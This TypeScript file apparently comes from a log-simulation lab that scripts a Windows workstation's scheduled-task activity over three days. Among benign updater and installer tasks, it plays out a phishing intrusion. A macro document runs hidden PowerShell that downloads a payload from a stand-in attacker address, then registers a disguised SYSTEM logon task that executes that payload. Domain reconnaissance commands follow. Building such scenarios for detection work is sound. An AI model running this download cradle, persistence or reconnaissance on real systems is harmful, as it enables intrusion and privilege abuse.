import { localTime } from '../host/clock.ts'
import { Host, type HostOptions, type Process, type Session } from '../host/host.ts'
import { TaskService } from '../host/task-service.ts'
import { dailyTrigger, hourlyTrigger, logonTrigger } from '../host/task-triggers.ts'
import type { LabTask } from '../host/task-xml.ts'
import type { Random } from '../random.ts'
import type { Change } from '../truth.ts'
import { ATTACKER_ADDRESS, DOMAIN, inbox, keller, rossi, WS5_ADDRESS } from './example-network.ts'

const SYSTEM32 = 'C:\\Windows\\System32\\'
const POWERSHELL = `${SYSTEM32}WindowsPowerShell\\v1.0\\powershell.exe`
const TASKSCHD = `${SYSTEM32}taskschd.dll`
const encoded = (script: string) => Buffer.from(script, 'utf16le').toString('base64')

const options: HostOptions = {
  name: 'WS5.example.test',
  domain: DOMAIN,
  address: WS5_ADDRESS,
  utcOffsetHours: 1,
  boot: { time: '2026-03-09T06:41:03Z', count: 57 },
  channels: new Map([
    ['Security', 481_207],
    ['Microsoft-Windows-Sysmon/Operational', 1_530_411],
    ['Microsoft-Windows-TaskScheduler/Operational', 73_018],
    ['Microsoft-Windows-PowerShell/Operational', 9_104],
  ]),
}

/**
 * A workstation over three mornings: updaters, inbox tasks, an installer, a task that registers itself anew after each run,
 * and on Tuesday a document that leaves a task which runs as SYSTEM at every logon.
 */
export function workstation(random: Random): { host: Host; tasks: TaskService; attack: Change } {
  const host = new Host(options, random)
  const { services, schedule } = host.bootServices()
  const tasks = new TaskService(host, schedule)
  for (const task of [inbox.scheduleScan, inbox.appraiser, inbox.languageComponents, edgeUpdate]) tasks.inherit(task)

  host.at('2026-03-09T06:44:12Z')
  const monday = host.logOn(rossi, 'Medium')
  startOneDrive(host, tasks, monday)
  host.at('2026-03-09T06:46:31Z')
  const { finish } = tasks.run(inbox.languageComponents.path, { kind: 'logon' }, monday.session)
  host.wait(4200)
  finish()
  host.at('2026-03-09T07:02:00Z')
  runFor(host, tasks, inbox.scheduleScan, 900)
  host.at('2026-03-09T07:15:00Z')
  updateEdge(host, tasks)
  host.at('2026-03-09T09:30:41Z')
  const inventory = installInventory(host, tasks, services)
  host.at('2026-03-09T10:30:00Z')
  runFor(host, tasks, inventory, 3100)
  host.at('2026-03-09T12:10:00Z')
  runFor(host, tasks, inbox.appraiser, 61_000)
  host.at('2026-03-09T13:00:00Z')
  runOneDrive(host, tasks, monday.session)
  host.at('2026-03-09T16:32:20Z')
  host.logOff(monday.session)

  host.at('2026-03-10T06:51:37Z')
  const tuesday = host.logOn(keller, 'High')
  startOneDrive(host, tasks, tuesday)
  host.at('2026-03-10T07:15:00Z')
  updateEdge(host, tasks)
  host.at('2026-03-10T07:30:00Z')
  runFor(host, tasks, inventory, 2800)
  host.at('2026-03-10T09:12:08Z')
  const attack = openInvoice(host, tasks, tuesday.explorer)
  host.at('2026-03-10T11:04:50Z')
  host.logOff(tuesday.session)

  host.at('2026-03-10T12:02:19Z')
  const afternoon = host.logOn(keller, 'High')
  runImplant(host, tasks, (implant) => lookAround(host, implant))
  host.at('2026-03-10T12:30:00Z')
  runFor(host, tasks, inventory, 2900)

  host.at('2026-03-10T16:40:11Z')
  host.logOff(afternoon.session)

  host.at('2026-03-11T06:54:03Z')
  host.logOn(keller, 'High')
  runImplant(host, tasks, (implant) => {
    host.runConsole(implant, `${SYSTEM32}whoami.exe`, '"C:\\Windows\\system32\\whoami.exe" /all', 110)
  })
  host.at('2026-03-11T07:15:00Z')
  updateEdge(host, tasks)
  return { host, tasks, attack }
}

/** Who am I, who rules the domain, and whom does it trust? */
function lookAround(host: Host, implant: Process): void {
  host.runConsole(implant, `${SYSTEM32}whoami.exe`, '"C:\\Windows\\system32\\whoami.exe" /all', 130)
  host.wait(1400)
  const net = host.start(
    implant,
    `${SYSTEM32}net.exe`,
    '"C:\\Windows\\system32\\net.exe" group "Domain Admins" /domain',
  )
  host.runConsole(net, `${SYSTEM32}net1.exe`, 'C:\\Windows\\system32\\net1 group "Domain Admins" /domain', 350)
  host.exit(net)
  host.wait(2100)
  host.runConsole(implant, `${SYSTEM32}nltest.exe`, '"C:\\Windows\\system32\\nltest.exe" /domain_trusts', 240)
}

/** A task's run whose program does nothing that the logs show. */
function runFor(host: Host, tasks: TaskService, { path }: LabTask, milliseconds: number): void {
  const { finish } = tasks.run(path, { kind: 'time' }, host.system)
  host.wait(milliseconds)
  finish()
}

const EDGE_UPDATE = 'C:\\Program Files (x86)\\Microsoft\\EdgeUpdate\\MicrosoftEdgeUpdate.exe'
const edgeUpdate: LabTask = {
  path: '\\MicrosoftEdgeUpdateTaskMachineUA',
  author: null,
  date: null,
  triggers: dailyTrigger('2026-02-01T08:15:00'),
  principal: { id: 'Author', userId: 'S-1-5-18', highest: true },
  action: { kind: 'exec', command: EDGE_UPDATE, arguments: '/ua /installsource scheduler', image: EDGE_UPDATE },
}

/** The updater registers its own task anew at the end of each run. */
function updateEdge(host: Host, tasks: TaskService): void {
  const { process, finish } = tasks.run(edgeUpdate.path, { kind: 'time' }, host.system)
  host.wait(2300)
  host.loadModule(process, TASKSCHD)
  tasks.update(edgeUpdate, { session: host.system, process, route: 'com' })
  host.wait(180)
  finish()
}

const oneDriveTask = (session: Session): string => `\\OneDrive Standalone Update Task-${session.sid}`

/** OneDrive starts with the shell and registers an updater with the user's SID in its name. */
function startOneDrive(host: Host, tasks: TaskService, { session, explorer }: { session: Session; explorer: Process }) {
  host.wait(6200)
  const folder = `${host.localAppData(session)}\\Microsoft\\OneDrive`
  const process = host.start(explorer, `${folder}\\OneDrive.exe`, `"${folder}\\OneDrive.exe" /background`)
  host.wait(3900)
  host.loadModule(process, TASKSCHD)
  const task: LabTask = {
    path: oneDriveTask(session),
    author: 'Microsoft Corporation',
    date: null,
    triggers: dailyTrigger('1992-05-01T14:00:00'),
    principal: { id: 'Author', userId: session.sid, highest: false, logonType: 'InteractiveToken' },
    action: {
      kind: 'exec',
      command: '%localappdata%\\Microsoft\\OneDrive\\OneDriveStandaloneUpdater.exe',
      arguments: '',
      image: `${folder}\\OneDriveStandaloneUpdater.exe`,
    },
  }
  tasks.register(task, { session, process, route: 'com' })
}

function runOneDrive(host: Host, tasks: TaskService, session: Session): void {
  const { finish } = tasks.run(oneDriveTask(session), { kind: 'time' }, session)
  host.wait(5200)
  finish()
}

/** An MSI's custom action calls schtasks as SYSTEM. */
function installInventory(host: Host, tasks: TaskService, services: Process): LabTask {
  const agent = 'C:\\Program Files\\Contoso\\Inventory\\agent.exe'
  const installer = host.start(services, `${SYSTEM32}msiexec.exe`, 'C:\\Windows\\system32\\msiexec.exe /V')
  host.wait(14_000)
  const commandLine = `schtasks.exe /Create /F /TN "\\Contoso\\Inventory Agent" /SC HOURLY /RU SYSTEM /TR "\\"${agent}\\" --collect"`
  const schtasks = host.start(installer, `${SYSTEM32}schtasks.exe`, commandLine)
  host.wait(60)
  host.loadModule(schtasks, TASKSCHD)
  const task: LabTask = {
    path: '\\Contoso\\Inventory Agent',
    author: `${DOMAIN}\\${host.system.name}`,
    date: localTime(host.now, options.utcOffsetHours),
    triggers: hourlyTrigger('2026-03-09T10:30:00'),
    principal: { id: 'Author', userId: 'S-1-5-18', highest: false },
    action: { kind: 'exec', command: agent, arguments: '--collect', image: agent },
  }
  tasks.register(task, { session: host.system, process: schtasks, route: 'schtasks' })
  host.exit(schtasks)
  host.wait(800)
  host.exit(installer)
  return task
}

const IMPLANT_TASK = '\\Microsoft\\Windows\\Printing\\SpoolerSync'
const IMPLANT_FILE = 'C:\\ProgramData\\spool.dat'
const implantScript = `IEX(gc ${IMPLANT_FILE} -Raw)`
const implantArguments = `-w hidden -enc ${encoded(implantScript)}`

/** Mail → document → macro → PowerShell, which fetches a file and leaves a task with a name like one of Windows' own. */
function openInvoice(host: Host, tasks: TaskService, explorer: Process): Change {
  const office = 'C:\\Program Files\\Microsoft Office\\root\\Office16'
  const outlook = host.start(explorer, `${office}\\OUTLOOK.EXE`, `"${office}\\OUTLOOK.EXE"`)
  host.wait(48_000)
  const document =
    'C:\\Users\\a.keller\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\7QXK2M1B\\Invoice-2291.docm'
  const word = host.start(outlook, `${office}\\WINWORD.EXE`, `"${office}\\WINWORD.EXE" /n "${document}" /o ""`)
  host.wait(21_000)
  const stager = `(New-Object Net.WebClient).DownloadFile('https://${ATTACKER_ADDRESS}/s','${IMPLANT_FILE}')`
  const powershell = host.start(word, POWERSHELL, `powershell.exe -nop -w hidden -enc ${encoded(stager)}`)
  host.openConsole(powershell)
  host.wait(900)
  host.runScript(powershell, stager, true)
  host.wait(350)
  host.connect(powershell, ATTACKER_ADDRESS, 443)
  host.wait(700)
  host.writeFile(powershell, IMPLANT_FILE)
  host.wait(240)

  const commandLine =
    `"C:\\Windows\\system32\\schtasks.exe" /create /tn "${IMPLANT_TASK}" ` +
    `/tr "powershell.exe ${implantArguments}" /sc onlogon /ru SYSTEM /f`
  const schtasks = host.start(powershell, `${SYSTEM32}schtasks.exe`, commandLine)
  host.wait(45)
  host.loadModule(schtasks, TASKSCHD)
  const task: LabTask = {
    path: IMPLANT_TASK,
    author: `${keller.domain}\\${keller.name}`,
    date: localTime(host.now, options.utcOffsetHours),
    triggers: logonTrigger,
    principal: { id: 'Author', userId: 'S-1-5-18', highest: false },
    action: { kind: 'exec', command: 'powershell.exe', arguments: implantArguments, image: POWERSHELL },
  }
  const change = tasks.register(task, { session: schtasks.session, process: schtasks, route: 'schtasks' })
  host.exit(schtasks)
  host.wait(120)
  host.exit(powershell)
  host.wait(95_000)
  host.exit(word)
  host.exit(outlook)
  return change
}

/** The implant's task at a logon: PowerShell as SYSTEM, and what it starts. */
function runImplant(host: Host, tasks: TaskService, act: (implant: Process) => void): void {
  host.wait(1300)
  const { process, finish } = tasks.run(IMPLANT_TASK, { kind: 'logon' }, host.system)
  host.openConsole(process)
  host.wait(780)
  host.runScript(process, implantScript, true)
  host.wait(400)
  host.connect(process, ATTACKER_ADDRESS, 443)
  host.wait(5200)
  act(process)
  host.wait(900)
  finish()
}
